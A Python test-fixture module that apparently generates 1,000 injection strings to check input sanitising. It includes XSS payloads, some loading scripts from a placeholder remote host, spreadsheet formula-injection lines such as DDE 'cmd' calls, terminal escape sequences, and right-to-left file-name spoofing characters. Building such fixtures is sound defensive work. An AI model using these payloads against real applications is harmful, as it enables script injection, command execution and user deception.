"""A thousand texts that hope to be taken for something else: script, formula, terminal control, right-to-left trick."""

SCRIPTS = (
    "<script>window.executed={n}</script>",
    "<img src=x onerror=window.executed={n}>",
    "\"><svg onload=window.executed={n}>",
    "'><iframe srcdoc='<script>parent.executed={n}</script>'>",
    "javascript:window.executed={n}//",
    "<a href=\"javascript:window.executed={n}\">{n}</a>",
    "</td></tr></table><script src=http://elsewhere.test/{n}.js></script>",
    "<style>@import 'http://elsewhere.test/{n}.css';</style>",
    "<link rel=stylesheet href=http://elsewhere.test/{n}.css>",
    "<base href=http://elsewhere.test/{n}/>",
    "<details open ontoggle=window.executed={n}>{n}",
    "<input autofocus onfocus=alert({n})>",
    "{{{{constructor.constructor('window.executed={n}')()}}}}",
    "${{window.executed={n}}}",
    "`-window.executed={n}-`",
    "\\u003cscript\\u003ewindow.executed={n}\\u003c/script\\u003e",
    "&lt;script&gt;window.executed={n}&lt;/script&gt;",
    "[click {n}](javascript:window.executed={n})",
    "![{n}](http://elsewhere.test/{n}.png)",
    "__proto__ executed {n}",
)
FORMULAS = (
    "=HYPERLINK(\"http://elsewhere.test/{n}\",\"open\")",
    "=cmd|' /C calc {n}'!A0",
    "+{n}+cmd|' /C calc'!A0",
    "-{n}+1",
    "@SUM({n},1)",
    "\t={n}+1",
    "=IMPORTXML(CONCAT(\"http://elsewhere.test/\",{n}),\"//a\")",
    "=1+1;{n}",
)
TERMINAL = (
    "\x1b[31mred {n}\x1b[0m",
    "\x1b]8;;http://elsewhere.test/{n}\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H{n}",
    "\x9b31mred {n}",
    "bell \x07 {n}",
    "back\x08\x08\x08\x08{n}",
)
BIDI = (
    "\u202egpj.{n}.exe",
    "\u2066{n}\u2069 \u2067left\u2069",
    "invoice\u200b{n}\u200d",
    "\ufeff{n} byte order",
    "\u061c{n} \u0627\u0644\u0645\u062c\u0645\u0648\u0639",
    "a\u0301\u0301\u0301\u0301\u0301{n}",
)
#: what a spreadsheet may take for the beginning of a formula
FORMULA_BEGINS = "=+-@\t\r"


def payloads(count=1000):
    shapes = SCRIPTS + FORMULAS + TERMINAL + BIDI
    return [shapes[n % len(shapes)].format(n=n) for n in range(count)]
